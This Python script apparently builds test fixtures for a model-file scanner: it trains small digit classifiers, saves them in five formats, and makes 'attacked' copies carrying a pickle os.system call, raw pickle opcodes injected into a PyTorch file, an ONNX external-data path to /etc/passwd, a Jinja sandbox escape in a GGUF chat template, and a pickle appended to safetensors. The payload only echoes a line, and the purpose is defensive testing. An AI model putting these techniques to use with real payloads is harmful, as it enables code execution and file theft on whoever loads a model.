#!/usr/bin/env python3
"""Makes every folder beside this file: small honest models and attacked twins.

One network (64 pixels -> 32 -> 10 digits) and one forest are trained on
scikit-learn's digits, then saved the way each format's own library saves them.
The twins are the same files after an attack. What they carry is inert: it would
print one line. Never open a twin with the library that it is made for.

    pip install -r requirements.txt
    python make.py
"""

import io
import json
import os
import pathlib
import pickle
import shutil
import zipfile

import gguf
import joblib
import numpy as np
import onnx
import torch
from onnx import TensorProto, helper, numpy_helper
from safetensors.numpy import save_file
from sklearn.datasets import load_digits
from sklearn.ensemble import RandomForestClassifier
from sklearn.model_selection import train_test_split
from sklearn.neural_network import MLPClassifier

HERE = pathlib.Path(__file__).parent
LINE = "echo this line must never be printed"


class Attack:
    """Pickles as a call of `os.system`."""

    def __reduce__(self):
        return (os.system, (LINE,))


def train():
    """The network's weights, the forest, and how often each is right."""
    digits = load_digits()
    x_train, x_test, y_train, y_test = train_test_split(
        digits.data / 16.0, digits.target, test_size=0.25, random_state=7
    )
    net = MLPClassifier(hidden_layer_sizes=(32,), max_iter=400, random_state=7)
    net.fit(x_train, y_train)
    forest = RandomForestClassifier(n_estimators=12, max_depth=8, random_state=7)
    forest.fit(x_train, y_train)
    weights = {
        "hidden.weight": net.coefs_[0].T.astype(np.float32).copy(),
        "hidden.bias": net.intercepts_[0].astype(np.float32),
        "output.weight": net.coefs_[1].T.astype(np.float32).copy(),
        "output.bias": net.intercepts_[1].astype(np.float32),
    }
    return weights, forest, net.score(x_test, y_test), forest.score(x_test, y_test)


def folder(name):
    path = HERE / name
    shutil.rmtree(path, ignore_errors=True)
    path.mkdir()
    return path


def manifest(name, version="1.0.0", parents=(), training=True, scope=True):
    """A complete `modelward.yaml`, or one with a part left out."""
    lines = [
        "schema: modelward.manifest/1",
        f"name: {name}",
        f"version: {version}",
        "owner:",
        "  team: digits",
        "use_case:",
        "  id: UC-digits",
        "  intended_use: Read single handwritten digits on scanned forms, checked by a person.",
        "  influences: [triage]",
        "capabilities:",
        "  makes_decisions: false",
        "  reads_secrets: false",
        "  calls_tools: false",
        "  customer_data: none",
        "  offline: true",
        "tags:",
        "  data: public",
        "  exposure: internal",
        "  domain: documents",
        "source:",
        "  kind: internal",
        "  url: https://example.org/digits",
        "  revision: 3f1c9a7",
        "  publisher: digits team",
    ]
    if training:
        lines += [
            "training:",
            "  data:",
            "    - ref: https://archive.ics.uci.edu/dataset/80",
            "      revision: '1998-07-01'",
            "  code:",
            "    ref: examples/make.py",
            "    revision: 3f1c9a7",
            "  by: ada@example.org",
        ]
    if parents:
        lines.append("parents:")
        for reference, transformation in parents:
            lines += [f"  - ref: {reference}", f"    transformation: {transformation}"]
    if scope:
        lines += ["scope:", "  environments: [laptop, staging]"]
    return "\n".join(lines) + "\n"


def card(title, accuracy):
    return f"""---
license: cc-by-4.0
library_name: modelward-example
tags: [digits, image-classification]
---
# {title}

Reads 8×8 pictures of handwritten digits.
Right on {accuracy:.1%} of 450 pictures that it was not trained on.
"""


def save_safetensors(path, weights):
    save_file(weights, path / "model.safetensors", metadata={"format": "np"})
    config = {"model_type": "mlp", "hidden_size": 32, "num_labels": 10}
    (path / "config.json").write_text(json.dumps(config, indent=2) + "\n")


def save_torch(path, weights):
    state = {key: torch.from_numpy(value) for key, value in weights.items()}
    torch.save(state, path / "model.pt")


def save_onnx(path, weights):
    nodes = [
        helper.make_node("Gemm", ["pixels", "hidden.weight", "hidden.bias"], ["h"], transB=1),
        helper.make_node("Relu", ["h"], ["r"]),
        helper.make_node("Gemm", ["r", "output.weight", "output.bias"], ["logits"], transB=1),
        helper.make_node("Softmax", ["logits"], ["digits"], axis=1),
    ]
    graph = helper.make_graph(
        nodes,
        "digits",
        [helper.make_tensor_value_info("pixels", TensorProto.FLOAT, ["batch", 64])],
        [helper.make_tensor_value_info("digits", TensorProto.FLOAT, ["batch", 10])],
        [numpy_helper.from_array(value, key) for key, value in weights.items()],
    )
    model = helper.make_model(
        graph, producer_name="digits", opset_imports=[helper.make_opsetid("", 17)]
    )
    model.ir_version = 8
    onnx.checker.check_model(model)
    onnx.save(model, path / "model.onnx")
    return model


def save_gguf(path, weights, template):
    writer = gguf.GGUFWriter(path / "model.gguf", "mlp")
    writer.add_name("digits")
    writer.add_license("cc-by-4.0")
    writer.add_string("tokenizer.chat_template", template)
    for key, value in weights.items():
        writer.add_tensor(key, value)
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


TEMPLATE = (
    "{% for message in messages %}<|{{ message['role'] }}|>{{ message['content'] }}<|end|>\n"
    "{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}"
)


def honest(weights, forest, net_score, forest_score):
    plain = folder("digits-safetensors")
    save_safetensors(plain, weights)
    (plain / "README.md").write_text(card("Digits, safetensors", net_score))
    (plain / "modelward.yaml").write_text(manifest("digits"))

    path = folder("digits-torch")
    save_torch(path, weights)
    (path / "README.md").write_text(card("Digits, PyTorch", net_score))
    # Where its weights came from is left out on purpose: the gate asks.
    (path / "modelward.yaml").write_text(manifest("digits-torch", training=False))

    path = folder("digits-onnx")
    save_onnx(path, weights)
    (path / "README.md").write_text(card("Digits, ONNX", net_score))
    parents = [("digits@1.0.0", "convert")]
    (path / "modelward.yaml").write_text(manifest("digits-onnx", parents=parents))

    path = folder("digits-gguf")
    save_gguf(path, weights, TEMPLATE)
    (path / "README.md").write_text(card("Digits, GGUF", net_score))
    (path / "modelward.yaml").write_text(manifest("digits-gguf", parents=parents))

    path = folder("digits-forest")
    joblib.dump(forest, path / "forest.joblib", compress=3)
    (path / "README.md").write_text(card("Digits, forest", forest_score))
    (path / "modelward.yaml").write_text(manifest("digits-forest"))


def attacked(weights, forest, net_score, forest_score):
    """The same five, each after one attack."""
    # Code in a pickle: the forest inside a list whose other member calls.
    path = folder("attacked-forest")
    joblib.dump([Attack(), forest], path / "forest.joblib", compress=3)
    (path / "README.md").write_text(card("Digits, forest", forest_score))
    (path / "modelward.yaml").write_text(manifest("attacked-forest"))

    # Code in a PyTorch file: a call before the honest state is built.
    path = folder("attacked-torch")
    save_torch(path, weights)
    inject(path / "model.pt")
    (path / "README.md").write_text(card("Digits, PyTorch", net_score))
    (path / "modelward.yaml").write_text(manifest("attacked-torch"))

    # A tensor that lies outside the model's folder.
    path = folder("attacked-onnx")
    model = save_onnx(path, weights)
    tensor = model.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value="../../../../etc/passwd")
    (path / "model.onnx").write_bytes(model.SerializeToString())
    (path / "modelward.yaml").write_text(manifest("attacked-onnx"))

    # A chat template that climbs out of its sandbox.
    path = folder("attacked-gguf")
    climb = "{{ cycler.__init__.__globals__.os.popen('" + LINE + "').read() }}"
    save_gguf(path, weights, climb + TEMPLATE)
    (path / "modelward.yaml").write_text(manifest("attacked-gguf"))

    # A pickle behind the last tensor: safetensors readers skip it.
    path = folder("attacked-safetensors")
    save_safetensors(path, weights)
    with open(path / "model.safetensors", "ab") as file:
        file.write(pickle.dumps(Attack(), protocol=4))
    (path / "modelward.yaml").write_text(manifest("attacked-safetensors"))


def inject(path):
    """Puts the call in front of the stream of a PyTorch zip, and drops its result."""
    source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as target:
        for entry in source.infolist():
            data = source.read(entry)
            if entry.filename.endswith("/data.pkl"):
                call = b"cposix\nsystem\n(X" + len(LINE).to_bytes(4, "little") + LINE.encode()
                data = data[:2] + call + b"tR0" + data[2:]
            target.writestr(zipfile.ZipInfo(entry.filename), data)


def main():
    weights, forest, net_score, forest_score = train()
    honest(weights, forest, net_score, forest_score)
    attacked(weights, forest, net_score, forest_score)
    for path in sorted(HERE.glob("*/*")):
        print(f"{path.relative_to(HERE)!s:45} {path.stat().st_size:>8}")


if __name__ == "__main__":
    main()
